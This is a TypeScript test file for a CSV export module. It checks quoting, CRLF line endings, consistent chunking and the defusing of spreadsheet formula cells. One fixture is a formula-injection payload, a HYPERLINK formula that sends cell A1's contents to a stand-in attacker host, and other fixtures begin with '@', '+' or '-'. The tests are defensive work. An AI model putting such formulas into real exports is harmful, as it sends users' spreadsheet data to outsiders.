import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { csvChunks, csvField, defuseFormula } from './build-csv.ts';
import type { FieldSpec } from './table-fields.ts';

const hostile = [
  '',
  'plain',
  'a,b',
  'say "hi"',
  '"',
  'line\nbreak',
  'cr\ronly',
  'crlf\r\nend',
  ' lead and trail ',
  'tab\there',
  '=SUM(A1)',
  'Ünïcödé — 𝄞',
  '; semi; colon',
  ',',
  '\n',
];

describe('csv', () => {
  it('writes every field exactly as csv-stringify with the published options does', () => {
    const options = { record_delimiter: 'windows', quoted_match: /[\r\n]/ } as const;
    for (const value of hostile) {
      expect(`${csvField(value)}\r\n`).toBe(stringify([[value]], options));
    }
    expect(`${hostile.map(csvField).join(',')}\r\n`).toBe(stringify([hostile], options));
  });

  it('makes the same file whatever the chunking, header first, every row CRLF-terminated', () => {
    type Row = { id: string; tags: string[]; n: number | null; ok: boolean };
    const fields: FieldSpec<Row>[] = [
      { name: 'id', type: 'string', description: '' },
      { name: 'tags', type: 'string', list: true, description: '' },
      { name: 'n', type: 'integer', description: '' },
      { name: 'ok', type: 'boolean', description: '' },
    ];
    const rows: Row[] = Array.from({ length: 3000 }, (_, i) => ({
      id: hostile[i % hostile.length] as string,
      tags: i % 2 ? ['a', 'b,c'] : [],
      n: i % 3 ? i : null,
      ok: i % 2 === 0,
    }));
    const text = Buffer.concat([...csvChunks(rows.length, (s, e) => rows.slice(s, e), fields)]).toString();
    const expected = stringify(
      [
        ['id', 'tags', 'n', 'ok'],
        ...rows.map((r) => [
          defuseFormula(r.id),
          r.tags.join('; '),
          r.n === null ? '' : String(r.n),
          String(r.ok),
        ]),
      ],
      { record_delimiter: 'windows', quoted_match: /[\r\n]/ },
    );
    expect(text).toBe(expected);
  });

  it('defuses cells a spreadsheet would run as a formula, and leaves numbers and other text alone', () => {
    type Row = { name: string; urls: string[]; n: number };
    const fields: FieldSpec<Row>[] = [
      { name: 'name', type: 'string', description: '' },
      { name: 'urls', type: 'string', list: true, description: '' },
      { name: 'n', type: 'integer', description: '' },
    ];
    const rows: Row[] = [
      {
        name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        urls: ['@SUM(A1)', 'https://a.example/'],
        n: -3,
      },
      { name: '+44 20 7946 0000', urls: ['-1+1'], n: 0 },
      { name: '\tTabbed', urls: ['\rcr'], n: 1 },
      { name: 'Learn Sheffield = schools', urls: ['https://b.example/?q=1'], n: 2 },
    ];
    const text = Buffer.concat([...csvChunks(rows.length, (s, e) => rows.slice(s, e), fields)]).toString();
    expect(text.split('\r\n')).toEqual([
      'name,urls,n',
      `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",'@SUM(A1); https://a.example/,-3`,
      "'+44 20 7946 0000,'-1+1,0",
      '\'\tTabbed,"\'\rcr",1',
      'Learn Sheffield = schools,https://b.example/?q=1,2',
      '',
    ]);
  });
});
